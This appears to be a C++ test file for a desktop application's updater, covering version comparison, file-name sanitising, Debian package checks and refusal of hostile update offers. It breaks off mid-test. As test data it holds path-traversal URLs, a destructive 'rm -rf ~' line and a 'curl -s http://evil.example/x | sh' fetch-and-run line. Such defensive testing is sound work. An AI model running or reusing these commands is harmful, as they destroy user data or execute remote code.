// The updater: version comparison, the update file's name on the Desktop, the
// Debian package checks, and whole checks, offers and downloads against a local
// stand-in for the service (and a foreign server it must never reach).

#include "DebianPackage.h"
#include "Dialogs.h"
#include "Localization.h"
#include "SkinnedDialogs.h"
#include "ServiceTestServer.h"
#include "StringExtensions.h"
#include "TestEnvironment.h"
#include "UserDefaults.h"
#include "Workspace.h"
#include "ZUpdater.h"

#include <gtest/gtest.h>

#include <QApplication>
#include <QCheckBox>
#include <QCoreApplication>
#include <QCryptographicHash>
#include <QDir>
#include <QFile>
#include <QFileInfo>
#include <QPushButton>
#include <QTimer>

#include <chrono>
#include <cstdio>
#include <functional>
#include <memory>
#include <thread>

namespace {

QByteArray readFile(const QString &path) {
  QFile file(path);
  return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray("<unreadable>");
}

void writeFile(const QString &path, const QByteArray &content) {
  QFile file(path);
  ASSERT_TRUE(file.open(QIODevice::WriteOnly)) << path.toStdString();
  file.write(content);
}

// Bytes that are not text, so that the server sends them as they are.
std::string fileContent(int size) {
  std::string content(size_t(size), '\0');
  for (int i = 0; i < size; ++i) content[size_t(i)] = char((i * 7 + i / 251) & 0xff);
  return content;
}

// One ar member: its 60-byte header (name, zero times and ids, mode, size,
// terminator), its bytes, and a padding byte after an odd size.
std::string arMember(const std::string &name, const std::string &content) {
  char header[61];
  std::snprintf(header, sizeof header, "%-16s%-12s%-6s%-6s%-8s%-10zu`\n", name.c_str(), "0", "0",
                "0", "100644", content.size());
  std::string member(header, 60);
  member += content;
  if (content.size() % 2) member += '\n';
  return member;
}

// A Debian package as dpkg-deb lays it out; the tar members are stand-ins,
// the checks look at the archive's first two members only.
std::string debPackage(const std::string &payload = "data",
                       const std::string &controlName = "control.tar.gz") {
  return "!<arch>\n" + arMember("debian-binary", "2.0\n") +
         arMember(controlName, "control of zaro-player 9.0") + arMember("data.tar.xz", payload);
}

std::string sha256Hex(const std::string &bytes) {
  return QCryptographicHash::hash(QByteArray::fromStdString(bytes), QCryptographicHash::Sha256)
      .toHex()
      .toStdString();
}

// --- rules -------------------------------------------------------------------

TEST(UpdaterVersions, ComparedComponentByComponent) {
  const struct {
    const char *offered;
    const char *running;
    bool newer;
  } cases[] = {
      {"1.3.1", "1.3.0", true},
      {"1.4", "1.3.0", true},
      {"2.0", "1.3.0", true},
      {"1.3", "1.3.0", false},
      {"1.3.0", "1.3.0", false},
      {"1.2.9", "1.3.0", false},
      {"0.9", "1.3.0", false},
      {"1", "1.3.0", false},
      {"2", "1.3.0", true},
      {"10.0", "9.9.9", true},
      {"1.10", "1.9", true},
      {"1.4", "1", false},
      // A third component counts only in a version of exactly three.
      {"1.3.0.5", "1.3.0", false},
      {"1.3.1", "1.3.0.9", true},
      {"", "1.3.0", false},
      {"1.3.2beta", "1.3.1", true},
      {"x.9", "1.1", false},
  };
  for (const auto &c : cases)
    EXPECT_EQ(ZUpdater::isNewerVersion(c.offered, c.running), c.newer)
        << c.offered << " against " << c.running;
}

TEST(UpdaterFileName, TakenFromTheUrlAndKeptInsideTheFolder) {
  const QString fallback = ZUpdater::FallbackFileName;
  const struct {
    const char *url;
    QString name;
  } cases[] = {
      {"http://h/files/Setup.dmg", "Setup.dmg"},
      {"http://h/files/Zaro%20Player%202.1.dmg", "Zaro Player 2.1.dmg"},
      {"http://h/files/%E4%B8%AD.dmg", QStringLiteral("\u4e2d.dmg")},
      {"http://h/dir/", "dir"},
      {"http://h/get/setup.dmg?file=/etc/passwd#x", "setup.dmg"},
      {"http://h/a/..%2F..%2F.bashrc", "bashrc"},
      {"http://h/a/%2E%2E", fallback},
      {"http://h/a/..", fallback},
      {"http://h/...", fallback},
      {"http://h/a%5C..%5Cb.dmg", "a.b.dmg"},
      {"http://h/evil%00name.dmg", "evilname.dmg"},
      {"http://h/%0A%20.hidden%09.dmg", "hidden.dmg"},
      {"http://h/Setup..dmg", "Setup.dmg"},
      {"http://h", fallback},
      {"not a url at all", "not a url at all"},
      {"", fallback},
  };
  for (const auto &c : cases) {
    const QString name = ZUpdater::updateFileName(c.url);
    EXPECT_EQ(name, c.name) << c.url;
    EXPECT_FALSE(name.contains(u'/') || name.contains(u'\\') || name.contains(QChar(0)) ||
                 name.startsWith(u'.'))
        << c.url;
  }

  // A name too long for the file system is shortened, keeping its extension.
  const QString longName =
      ZUpdater::updateFileName("http://h/" + QString(300, u'a') + QStringLiteral("\u00e9.dmg"));
  EXPECT_LE(longName.toUtf8().size(), 200);
  EXPECT_TRUE(longName.startsWith("aaaa"));
  EXPECT_TRUE(longName.endsWith(".dmg"));
}

TEST(UpdaterFileName, DestinationAvoidsEveryOccupiedName) {
  const QString folder = TestEnvironment::makeTempDir("names");
  EXPECT_EQ(ZUpdater::destinationPath(folder, "Setup.dmg"), folder + "/Setup.dmg");
  writeFile(folder + "/Setup.dmg", "a");
  writeFile(folder + "/Setup - 1.dmg", "b");
  EXPECT_EQ(ZUpdater::destinationPath(folder, "Setup.dmg"), folder + "/Setup - 2.dmg");
  // A dangling link occupies its name too.
  ASSERT_TRUE(QFile::link(folder + "/nowhere", folder + "/Setup - 2.dmg"));
  EXPECT_EQ(ZUpdater::destinationPath(folder, "Setup.dmg"), folder + "/Setup - 3.dmg");

  writeFile(folder + "/Setup", "c");
  EXPECT_EQ(ZUpdater::destinationPath(folder, "Setup"), folder + "/Setup - 1");
  writeFile(folder + "/a.tar.gz", "d");
  EXPECT_EQ(ZUpdater::destinationPath(folder, "a.tar.gz"), folder + "/a.tar - 1.gz");
}

TEST(UpdaterPackageCheck, ADebianPackageIsKnownByItsContent) {
  using DebianPackage::Head;
  const std::string valid = debPackage();
  std::string gnuNames = valid;
  gnuNames.replace(8, 16, "debian-binary/  ");
  std::string badTerminator = valid;
  badTerminator[8 + 58] = ' ';
  std::string badSize = valid;
  badSize.replace(8 + 48, 10, "4x        ");
  const struct {
    const char *name;
    std::string bytes;
    Head head;
  } cases[] = {
      {"package", valid, Head::Package},
      {"control.tar", debPackage("x", "control.tar"), Head::Package},
      {"control.tar.xz", debPackage("x", "control.tar.xz"), Head::Package},
      {"control.tar.zst", debPackage("x", "control.tar.zst"), Head::Package},
      {"GNU ar names", gnuNames, Head::Package},
      {"the first bytes only", valid.substr(0, DebianPackage::HeadBytes), Head::Package},
      {"not yet enough", valid.substr(0, DebianPackage::HeadBytes - 1), Head::Incomplete},
      {"nothing yet", "", Head::Incomplete},
      {"a shell script", "#!/bin/sh\nrm -rf ~\n" + std::string(200, '#'), Head::Other},
      {"a script's first byte", "#", Head::Other},
      {"another ar archive", "!<arch>\n" + arMember("a.o", "x") + arMember("b.o", "y") +
                                 std::string(100, 'z'),
       Head::Other},
      {"format 2.1", "!<arch>\n" + arMember("debian-binary", "2.1\n") +
                         arMember("control.tar.gz", "c") + std::string(100, 'z'),
       Head::Other},
      {"debian-binary of 5 bytes", "!<arch>\n" + arMember("debian-binary", "2.0\n\n") +
                                       arMember("control.tar.gz", "c") + std::string(100, 'z'),
       Head::Other},
      {"data before control", "!<arch>\n" + arMember("debian-binary", "2.0\n") +
                                  arMember("data.tar.gz", "d") + std::string(100, 'z'),
       Head::Other},
      {"control with a made-up compression", debPackage("x", "control.tar.sh"), Head::Other},
      {"bad terminator", badTerminator, Head::Other},
      {"size not a number", badSize, Head::Other},
  };
  for (const auto &c : cases)
    EXPECT_EQ(DebianPackage::checkHead(QByteArray::fromStdString(c.bytes)), c.head) << c.name;
}

TEST(UpdaterPackageCheck, APackageInstallIsReadFromDpkgsFileList) {
  const QString root = TestEnvironment::makeTempDir("dpkg");
  const QString info = root + "/info";
  const QString program = root + "/usr/bin/zaro-player";
  ASSERT_TRUE(TestEnvironment::writeFile(program, "program"));
  // "/bin" linking to "/usr/bin", as on merged-/usr systems.
  ASSERT_TRUE(QFile::link(root + "/usr/bin", root + "/bin"));
  ASSERT_TRUE(QFile::link(program, root + "/usr/bin/zaro-link"));
  ASSERT_TRUE(TestEnvironment::writeFile(root + "/elsewhere/zaro-player", "a copy"));

  const auto list = [&](const QString &name, const QStringList &paths) {
    QDir(info).removeRecursively();
    for (const QString &path : paths) {
      QByteArray lines;
      for (const QString &line : path.split(u'|')) lines += QFile::encodeName(line) + '\n';
      ASSERT_TRUE(TestEnvironment::writeFile(info + "/" + name, lines));
    }
  };
  const struct {
    const char *name;
    QString listFile;
    QStringList contents;  // one list file per entry, lines split at "|"
    QString running;
    bool installed;
  } cases[] = {
      {"listed", "zaro-player.list", {"/.|" + root + "/usr|" + program}, program, true},
      {"listed by a linked folder", "zaro-player.list", {root + "/bin/zaro-player"}, program, true},
      {"a listed link to it", "zaro-player.list", {root + "/usr/bin/zaro-link"}, program, true},
      {"run through a link", "zaro-player.list", {program}, root + "/bin/zaro-player", true},
      {"multi-arch list", "zaro-player:amd64.list", {program}, program, true},
      {"another copy running", "zaro-player.list", {program}, root + "/elsewhere/zaro-player",
       false},
      {"another package's list", "zaro-player-extras.list", {program}, program, false},
      {"not listed", "zaro-player.list", {root + "/usr/bin"}, program, false},
      {"no list", "zaro-player.list", {}, program, false},
      {"no program", "zaro-player.list", {program}, root + "/usr/bin/missing", false},
  };
  for (const auto &c : cases) {
    list(c.listFile, c.contents);
    EXPECT_EQ(DebianPackage::isInstalledFile(c.running, "zaro-player", info), c.installed) << c.name;
  }
  EXPECT_FALSE(DebianPackage::isInstalledFile(program, "", info));
}

// --- exchanges ---------------------------------------------------------------

class UpdaterExchange : public ::testing::Test {
 protected:
  static constexpr char CheckPath[] = "/service/getUpdate.xml";
  // A checksum of the right form that matches no file of these tests.
  static constexpr char AnyChecksum[] =
      "0f1e2d3c4b5a69788796a5b4c3d2e1f00f1e2d3c4b5a69788796a5b4c3d2e1f0";

  void SetUp() override {
    fRoot = TestEnvironment::makeTempDir("updater");
    fDesktop = fRoot + "/Desktop";
    QDir().mkpath(fDesktop);
    fDefaults = std::make_unique<UserDefaults>(fRoot + "/settings.ini");
    makeUpdater();
  }

  ZUpdater::Parts parts(Dialogs &dialogs) {
    ZUpdater::Parts parts;
    parts.defaults = fDefaults.get();
    parts.dialogs = &dialogs;
    parts.workspace = &fWorkspace;
    parts.desktopPath = [this] { return fDesktopPath; };
    parts.runningVersion = QStringLiteral("1.3.0");
    parts.packageInstall = [this] { return fPackageInstall; };
    parts.maxUpdateFileBytes = fMaxUpdateFileBytes;
    return parts;
  }

  void makeUpdater() { fUpdater = std::make_unique<ZUpdater>(parts(fDialogs)); }

  static std::string checkAnswer(const std::string &version, const std::string &url,
                                 const std::string &required = "0",
                                 const std::string &haveUpdate = "1",
                                 const std::string &checksum = AnyChecksum) {
    return "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<UpdateResponse>\n  <HaveUpdate>" +
           haveUpdate + "</HaveUpdate>\n  <Update>\n    <Version>" + version +
           "</Version>\n    <Url>" + url + "</Url>\n    <Checksum>" + checksum +
           "</Checksum>\n" + "    <Required>" + required +
           "</Required>\n  </Update>\n</UpdateResponse>\n";
  }

  std::string fileUrl(const std::string &path) const {
    return fServer.url(QString::fromStdString(path)).toStdString();
  }

  // Serves content at path and keeps its checksum for the offers naming it.
  void serve(const std::string &path, const std::string &content,
             const std::string &contentType = "application/vnd.debian.binary-package") {
    fServer.answer("GET", path, 200, contentType, content);
    fChecksums[path] = sha256Hex(content);
  }
  std::string checksumOf(const std::string &path) const {
    auto it = fChecksums.find(path);
    return it == fChecksums.end() ? AnyChecksum : it->second;
  }

  void offer(const std::string &version, const std::string &path,
             const std::string &required = "0") {
    fServer.answer("GET", CheckPath, 200, "text/xml",
                   checkAnswer(version, fileUrl(path), required, "1", checksumOf(path)));
  }

  void waitUntilIdle() {
    ASSERT_TRUE(TestEnvironment::waitFor(
        [this] { return !fUpdater->isChecking() && !fUpdater->isDownloading(); }, 20000));
    QCoreApplication::processEvents();
  }

  void check() {
    fUpdater->checkForUpdate();
    ASSERT_TRUE(fUpdater->isChecking());
    waitUntilIdle();
  }

  void download(const QString &url, const std::string &checksum) {
    fUpdater->downloadUpdateFromUrl(url, QString::fromStdString(checksum));
    waitUntilIdle();
  }
  void download(const std::string &path) {
    download(fServer.url(QString::fromStdString(path)), checksumOf(path));
  }

  QStringList desktopFiles() const {
    return QDir(fDesktop).entryList(QDir::Files | QDir::System | QDir::Hidden, QDir::Name);
  }

  std::vector<ReceivedRequest> downloads() {
    std::vector<ReceivedRequest> result;
    for (const ReceivedRequest &request : fServer.received())
      if (request.path != CheckPath) result.push_back(request);
    return result;
  }

  ServiceTestServer fServer;
  QString fRoot;
  QString fDesktop;
  QString fDesktopPath;  // what the updater is told; no Desktop until a test says so
  bool fPackageInstall = false;
  qint64 fMaxUpdateFileBytes = 0;
  std::map<std::string, std::string> fChecksums;
  std::unique_ptr<UserDefaults> fDefaults;
  ScriptedDialogs fDialogs;
  RecordingWorkspace fWorkspace;
  std::unique_ptr<ZUpdater> fUpdater;
};

TEST_F(UpdaterExchange, CheckSendsTheIdentityAndANegativeAnswerEndsIt) {
  fDesktopPath = fDesktop;
  fServer.answer("GET", CheckPath, 200, "text/xml",
                 checkAnswer("9.0", fileUrl("/files/Setup.dmg"), "0", "0"));
  check();

  const auto received = fServer.received();
  ASSERT_EQ(received.size(), 1u);
  const ReceivedRequest &request = received.front();
  const QString guid = fDefaults->stringForKey("ApplicationClientID");
  ASSERT_EQ(guid.size(), 88);
  EXPECT_EQ(request.method, "GET");
  EXPECT_EQ(request.target,
            (QString(CheckPath) + "?clientGUID=" + wwwFormURLEncoded(guid) + "&version=1.3.0")
                .toStdString());
  EXPECT_EQ(request.param("clientGUID"), guid.toStdString());
  EXPECT_EQ(request.values("User-Agent"), std::vector<std::string>{expectedUserAgent()});
  EXPECT_EQ(request.values("Accept"), std::vector<std::string>{"text/xml"});
  EXPECT_EQ(request.values("Accept-Charset"), std::vector<std::string>{"UTF-8"});
  EXPECT_EQ(request.values("Accept-Encoding"), std::vector<std::string>{"gzip"});
  EXPECT_TRUE(fDialogs.asked().isEmpty());
  EXPECT_FALSE(fUpdater->updateDownloaded());
}

TEST_F(UpdaterExchange, TheOfferAndItsAnswers) {
  fDesktopPath = fDesktop;
  const std::string content = debPackage(fileContent(300 * 1024));
  serve("/files/Setup.deb", content);

  const struct {
    const char *required;
    const char *answer;
    const char *messageKey;
    bool upperCaseChecksum;
  } cases[] = {
      {"0", "0", "upgradeNotificationAlertMessage", false},
      {"1", "0", "upgradeRequiredNotificationAlertMessage", false},
      {"1", "1", "upgradeRequiredNotificationAlertMessage", false},
      {"0", "1", "upgradeNotificationAlertMessage", true},
  };
  for (const auto &c : cases) {
    SCOPED_TRACE(std::string("required ") + c.required + ", answer " + c.answer);
    for (const QString &name : desktopFiles()) QFile::remove(fDesktop + "/" + name);
    fServer.clearReceived();
    fDialogs.clearAsked();
    fWorkspace.clear();
    fDialogs.setAnswer("update", c.answer);
    makeUpdater();

    const std::string checksum = QByteArray::fromStdString(checksumOf("/files/Setup.deb"))
                                     .toUpper()
                                     .toStdString();
    fServer.answer("GET", CheckPath, 200, "text/xml",
                   checkAnswer("1.3.1", fileUrl("/files/Setup.deb"), c.required, "1",
                               c.upperCaseChecksum ? checksum : checksumOf("/files/Setup.deb")));
    check();
    EXPECT_EQ(fDialogs.asked(), QStringList{"update " + localized(c.messageKey)});
    EXPECT_NE(localized(c.messageKey), QString(c.messageKey));

    if (QByteArray(c.answer) == "1") {
      EXPECT_TRUE(fUpdater->updateDownloaded());
      EXPECT_EQ(desktopFiles(), QStringList{"Setup.deb"});
      EXPECT_EQ(readFile(fDesktop + "/Setup.deb"), QByteArray::fromStdString(content));
      // Shown in the file browser, never opened.
      EXPECT_EQ(fWorkspace.requests(), QStringList{"revealFile " + fDesktop + "/Setup.deb"});
      const auto fetched = downloads();
      ASSERT_EQ(fetched.size(), 1u);
      EXPECT_EQ(fetched[0].path, "/files/Setup.deb");
      EXPECT_EQ(fetched[0].values("User-Agent"), std::vector<std::string>{expectedUserAgent()});
      EXPECT_EQ(fetched[0].values("Accept"), std::vector<std::string>{"text/xml"});
      EXPECT_EQ(fetched[0].values("Accept-Encoding"), std::vector<std::string>{"gzip"});
    } else {
      // Declined: nothing fetched, and the next tick asks again.
      EXPECT_FALSE(fUpdater->updateDownloaded());
      EXPECT_TRUE(desktopFiles().isEmpty());
      EXPECT_TRUE(downloads().empty());
      EXPECT_TRUE(fWorkspace.requests().isEmpty());
      check();
      EXPECT_EQ(fDialogs.asked().size(), 2);
    }
  }
}

TEST_F(UpdaterExchange, WhatIsNeverOffered) {
  fDesktopPath = fDesktop;
  fDialogs.setAnswer("update", "1");
  const std::string package = debPackage("x");
  serve("/files/Setup.deb", package);
  const std::string url = fileUrl("/files/Setup.deb");
  const std::string big(17 * 1024 * 1024, ' ');
  const struct {
    const char *name;
    int status;
    const char *contentType;
    std::string body;
  } cases[] = {
      {"older", 200, "text/xml", checkAnswer("1.2.9", url)},
      {"equal", 200, "text/xml", checkAnswer("1.3", url)},
      {"one component", 200, "text/xml", checkAnswer("1", url)},
      {"HaveUpdate not 1", 200, "text/xml", checkAnswer("2.0", url, "0", "2")},
      {"no Url", 200, "text/xml", checkAnswer("2.0", "")},
      {"no Version", 200, "text/xml", checkAnswer("", url)},
      // (Refused, so that version is not offered again; see HostileOffersAreRefused.)
      {"not a web address", 200, "text/xml", checkAnswer("1.9", "file:///etc/passwd")},
      {"Update not under the root", 200, "text/xml",
       "<R><HaveUpdate>1</HaveUpdate><X><Update><Version>2.0</Version><Url>" + url +
           "</Url></Update></X></R>"},
      {"error status", 500, "text/xml", checkAnswer("2.0", url)},
      {"not found", 404, "text/plain", ""},
      {"empty body", 200, "text/xml", ""},
      {"not well-formed", 200, "text/xml", "<R><HaveUpdate>1</R>"},
      {"oversize", 200, "application/octet-stream", checkAnswer("2.0", url) + "<!--" + big + "-->"},
      {"oversize once inflated", 200, "text/xml", checkAnswer("2.0", url) + "<!--" + big + "-->"},
  };
  for (const auto &c : cases) {
    SCOPED_TRACE(c.name);
    fServer.answer("GET", CheckPath, c.status, c.contentType, c.body);
    check();
    EXPECT_TRUE(fDialogs.asked().isEmpty());
  }

  // An update already on the Desktop is not offered again, and without a
  // Desktop there is nowhere to put it.
  offer("2.0", "/files/Setup.deb");
  writeFile(fDesktop + "/Setup.deb", "earlier");
  check();
  EXPECT_TRUE(fDialogs.asked().isEmpty());
  QFile::remove(fDesktop + "/Setup.deb");
  fDesktopPath = QString();
  check();
  EXPECT_TRUE(fDialogs.asked().isEmpty());
  EXPECT_TRUE(downloads().empty());

  // None of that keeps a later check from offering a real update.
  fDesktopPath = fDesktop;
  check();
  EXPECT_EQ(fDialogs.asked().size(), 1);
  EXPECT_TRUE(fUpdater->updateDownloaded());
  EXPECT_EQ(readFile(fDesktop + "/Setup.deb"), QByteArray::fromStdString(package));
}

TEST_F(UpdaterExchange, TheFileTakesTheNextFreeName) {
  fDesktopPath = fDesktop;
  writeFile(fDesktop + "/Setup.deb", "first");
  writeFile(fDesktop + "/Setup - 1.deb", "second");
  const std::string third = debPackage("third");
  serve("/files/Setup.deb", third);
  download("/files/Setup.deb");
  EXPECT_EQ(desktopFiles(), (QStringList{"Setup - 1.deb", "Setup - 2.deb", "Setup.deb"}));
  EXPECT_EQ(readFile(fDesktop + "/Setup.deb"), "first");
  EXPECT_EQ(readFile(fDesktop + "/Setup - 1.deb"), "second");
  EXPECT_EQ(readFile(fDesktop + "/Setup - 2.deb"), QByteArray::fromStdString(third));
  EXPECT_EQ(fWorkspace.requests(), QStringList{"revealFile " + fDesktop + "/Setup - 2.deb"});

  // A name that is not a package's gets the package's extension.
  serve("/files/Setup", third);
  download("/files/Setup");
  EXPECT_TRUE(desktopFiles().contains("Setup - 3.deb")) << desktopFiles().join(", ").toStdString();
  EXPECT_EQ(ZUpdater::packageFileName("http://h/get/Installer.DEB"), "Installer.DEB");
  EXPECT_EQ(ZUpdater::packageFileName("http://h/get/run.sh"), "run.sh.deb");
  EXPECT_EQ(ZUpdater::packageFileName("http://h/"), ZUpdater::FallbackFileName + ".deb");
}

TEST_F(UpdaterExchange, AHostileNameCannotLeaveTheDesktop) {
  fDesktopPath = fDesktop;
  fDialogs.setAnswer("update", "1");
  // The service sees the path decoded; whatever it is, it serves the file.
  const std::string package = debPackage("escape");
  fServer.on("GET", "/files/../../escape.deb",
             [package](const httplib::Request &, httplib::Response &response) {
               response.set_content(package, "application/octet-stream");
             });
  fChecksums["/files/..%2F..%2Fescape.deb"] = sha256Hex(package);
  offer("2.0", "/files/..%2F..%2Fescape.deb");
  check();
  ASSERT_EQ(fDialogs.asked().size(), 1);
  ASSERT_EQ(downloads().size(), 1u);
  EXPECT_EQ(desktopFiles(), QStringList{"escape.deb"});
  EXPECT_EQ(readFile(fDesktop + "/escape.deb"), QByteArray::fromStdString(package));
  EXPECT_FALSE(QFile::exists(fRoot + "/escape.deb"));
  EXPECT_FALSE(QFile::exists(QFileInfo(fRoot).absolutePath() + "/escape.deb"));
}

TEST_F(UpdaterExchange, AGzipEncodedFileIsWrittenInflated) {
  fDesktopPath = fDesktop;
  // Text travels compressed when the request accepts gzip, as this one does.
  std::string text;
  for (int i = 0; i < 20000; ++i) text += "line " + std::to_string(i) + "\n";
  const std::string package = debPackage(text);
  serve("/files/notes.deb", package, "text/plain");
  download("/files/notes.deb");
  EXPECT_TRUE(fUpdater->updateDownloaded());
  EXPECT_EQ(readFile(fDesktop + "/notes.deb"), QByteArray::fromStdString(package));
}

TEST_F(UpdaterExchange, AFailedDownloadLeavesNothingBehind) {
  // A package, so that only the failure named stops it.
  const std::string content = debPackage(fileContent(200 * 1024));
  fServer.answer("GET", "/files/missing.dmg", 404, "text/html", "<html>not here</html>");
  fServer.answer("GET", "/files/moved.dmg", 302, "text/html", "");
  fServer.on("GET", "/files/truncated.dmg",
             [content](const httplib::Request &, httplib::Response &response) {
               response.set_content_provider(
                   content.size(), "application/octet-stream",
                   [content](size_t offset, size_t, httplib::DataSink &sink) {
                     if (offset >= content.size() / 2) return false;  // drops the connection
                     sink.write(content.data() + offset, content.size() / 2);
                     return true;
                   });
             });
  fServer.on("GET", "/files/damaged.dmg",
             [](const httplib::Request &, httplib::Response &response) {
               response.set_content(std::string("\x1f\x8b\x08\x00 this is not gzip", 21),
                                    "application/octet-stream");
               response.set_header("Content-Encoding", "gzip");
             });
  fServer.on("GET", "/files/brotli.dmg", [](const httplib::Request &, httplib::Response &response) {
    response.set_content("compressed otherwise", "application/octet-stream");
    response.set_header("Content-Encoding", "br");
  });
  serve("/files/good.deb", debPackage(content));

  const struct {
    const char *name;
    const char *path;
    bool withDesktop;
  } cases[] = {
      {"not found", "/files/missing.dmg", true},
      {"redirected nowhere", "/files/moved.dmg", true},
      {"connection dropped halfway", "/files/truncated.dmg", true},
      {"damaged gzip", "/files/damaged.dmg", true},
      {"unknown encoding", "/files/brotli.dmg", true},
      {"no Desktop", "/files/good.deb", false},
  };
  for (const auto &c : cases) {
    SCOPED_TRACE(c.name);
    fServer.clearReceived();
    fDesktopPath = c.withDesktop ? fDesktop : QString();
    download(c.path);
    // (Qt itself may send a request once more after a dropped connection.)
    EXPECT_GE(downloads().size(), 1u);
    EXPECT_TRUE(desktopFiles().isEmpty()) << desktopFiles().join(", ").toStdString();
    EXPECT_FALSE(fUpdater->updateDownloaded());
    EXPECT_TRUE(fWorkspace.requests().isEmpty());
    // Failures, not refusals: the user hears of none, the next tick tries again.
    EXPECT_TRUE(fDialogs.asked().isEmpty());
  }
  // Nothing landed beside the Desktop either.
  EXPECT_TRUE(QDir(fRoot).entryList(QDir::Files).filter(".deb").isEmpty());
}

TEST_F(UpdaterExchange, OneExchangeAtATime) {
  fDesktopPath = fDesktop;
  fServer.on("GET", CheckPath, [](const httplib::Request &, httplib::Response &response) {
    std::this_thread::sleep_for(std::chrono::milliseconds(300));
    response.set_content("<R><HaveUpdate>0</HaveUpdate></R>", "text/xml");
  });
  const std::string package = debPackage("slow");
  fChecksums["/files/slow.deb"] = sha256Hex(package);
  fServer.on("GET", "/files/slow.deb",
             [package](const httplib::Request &, httplib::Response &response) {
               std::this_thread::sleep_for(std::chrono::milliseconds(300));
               response.set_content(package, "application/octet-stream");
             });
  const QString url = fServer.url("/files/slow.deb");
  const QString checksum = QString::fromStdString(checksumOf("/files/slow.deb"));

  fUpdater->checkForUpdate();
  fUpdater->checkForUpdate();
  fUpdater->downloadUpdateFromUrl(url, checksum);
  EXPECT_FALSE(fUpdater->isDownloading());
  waitUntilIdle();

  fUpdater->downloadUpdateFromUrl(url, checksum);
  fUpdater->downloadUpdateFromUrl(url, checksum);
  fUpdater->checkForUpdate();
  EXPECT_FALSE(fUpdater->isChecking());
  waitUntilIdle();

  EXPECT_EQ(fServer.received(CheckPath).size(), 1u);
  EXPECT_EQ(fServer.received("/files/slow.deb").size(), 1u);
  EXPECT_EQ(desktopFiles(), QStringList{"slow.deb"});
}

// The warnings of the service's logging category written while it lives.
class ServiceWarnings {
 public:
  ServiceWarnings() {
    sLines = &fLines;
    fPrevious = qInstallMessageHandler(
        [](QtMsgType type, const QMessageLogContext &context, const QString &message) {
          if (type == QtWarningMsg && context.category &&
              QByteArray(context.category) == "zaro.service")
            sLines->append(message);
        });
  }
  ~ServiceWarnings() {
    qInstallMessageHandler(fPrevious);
    sLines = nullptr;
  }
  QStringList lines() const { return fLines; }
  void clear() { fLines.clear(); }

 private:
  static inline QStringList *sLines = nullptr;
  QStringList fLines;
  QtMessageHandler fPrevious = nullptr;
};

TEST_F(UpdaterExchange, HostileOffersAreRefused) {
  fDesktopPath = fDesktop;
  fDialogs.setAnswer("update", "1");
  fMaxUpdateFileBytes = 64 * 1024;
  makeUpdater();
  ServiceTestServer foreign(ServiceTestServer::Foreign);
  const std::string package = debPackage("the real thing");
  foreign.answer("GET", "/files/Setup.deb", 200, "application/vnd.debian.binary-package", package);
  serve("/files/Setup.deb", package);
  const std::string away = foreign.url("/files/Setup.deb").toStdString();
  fServer.on("GET", "/files/moved.deb", [away](const httplib::Request &, httplib::Response &r) {
    r.set_redirect(away);
  });
  const std::string hop = fileUrl("/files/moved.deb");
  fServer.on("GET", "/files/hop.deb", [hop](const httplib::Request &, httplib::Response &r) {
    r.set_redirect(hop);
  });
  const std::string script = "#!/bin/sh\ncurl -s http://evil.example/x | sh\n";
  serve("/files/script.deb", script);
  // Announces fewer bytes than it sends (Transfer-Encoding wins over the length).
  const std::string longer = debPackage(fileContent(8 * 1024));
  fServer.on("GET", "/files/longer.deb", [longer](const httplib::Request &, httplib::Response &r) {
    r.set_header("Content-Length", "200");
    r.set_chunked_content_provider("application/octet-stream",
                                   [longer](size_t offset, httplib::DataSink &sink) {
                                     if (offset < longer.size())
                                       sink.write(longer.data() + offset, longer.size() - offset);
                                     else
                                       sink.done();
                                     return true;
                                   });
  });
  // Larger than the cap (64 KiB here), with and without a length.
  const std::string large = debPackage(fileContent(100 * 1024));
  serve("/files/large.deb", large);
  fServer.on("GET", "/files/unmeasured.deb",
             [large](const httplib::Request &, httplib::Response &r) {
               r.set_chunked_content_provider(
                   "application/octet-stream", [large](size_t offset, httplib::DataSink &sink) {
                     if (offset < large.size())
                       sink.write(large.data() + offset, std::min<size_t>(4096, large.size() - offset));
                     else
                       sink.done();
                     return true;
                   });
             });
  const std::string localhost =
      "http://localhost:" + std::to_string(QUrl(fServer.baseUrl()).port()) + "/files/Setup.deb";

  const struct {
    const char *name;
    const char *version;
    std::string url;
    std::string checksum;
    bool accepted;    // offered to the user, who says Yes
    const char *why;  // in the warning
  } cases[] = {
      {"a file on another host", "2.0.1", away, sha256Hex(package), false, "another host"},
      {"the service's address under another name", "2.0.2", localhost, sha256Hex(package), false,
       "another host"},
      {"no checksum", "2.0.3", fileUrl("/files/Setup.deb"), "", false, "checksum"},
      {"a checksum that is no SHA-256", "2.0.4", fileUrl("/files/Setup.deb"), "0f1e", false,
       "checksum"},
      {"redirected to another host", "2.0.5", fileUrl("/files/moved.deb"), sha256Hex(package),
       true, "redirected"},
      {"redirected on the service, then away", "2.0.6", fileUrl("/files/hop.deb"),
       sha256Hex(package), true, "redirected"},
      {"a shell script named .deb", "2.0.7", fileUrl("/files/script.deb"), sha256Hex(script),
       true, "not a Debian package"},
      {"a package with a wrong checksum", "2.0.8", fileUrl("/files/Setup.deb"),
       sha256Hex(package + "x"), true, "SHA-256"},
      {"longer than announced", "2.0.9", fileUrl("/files/longer.deb"), sha256Hex(longer), true,
       "longer than the 200 bytes announced"},
      {"larger than the cap, announced", "2.0.10", fileUrl("/files/large.deb"), sha256Hex(large),
       true, "announces"},
      {"larger than the cap, unannounced", "2.0.11", fileUrl("/files/unmeasured.deb"),
       sha256Hex(large), true, "larger than"},
  };
  const QString offerLine = "update " + localized("upgradeNotificationAlertMessage");

  // The check itself is not followed off the web host: whatever the other
  // host would answer is never asked.
  foreign.answer("GET", CheckPath, 200, "text/xml",
                 checkAnswer("2.0.0", away, "0", "1", sha256Hex(package)));
  const std::string foreignCheck = foreign.url(CheckPath).toStdString();
  fServer.on("GET", CheckPath, [foreignCheck](const httplib::Request &, httplib::Response &r) {
    r.set_redirect(foreignCheck);
  });
  check();
  EXPECT_TRUE(fDialogs.asked().isEmpty());
  EXPECT_TRUE(foreign.received().empty());

  const QString alertLine = "alert " + localized("upgradeVerificationFailedAlertTitle") + ": " +
                            localized("upgradeVerificationFailedAlertMessage");
  ServiceWarnings warnings;
  for (const auto &c : cases) {
    SCOPED_TRACE(c.name);
    fServer.clearReceived();
    fDialogs.clearAsked();
    warnings.clear();
    fServer.answer("GET", CheckPath, 200, "text/xml",
                   checkAnswer(c.version, c.url, "0", "1", c.checksum));
    check();
    // Told only when the user had asked for it.
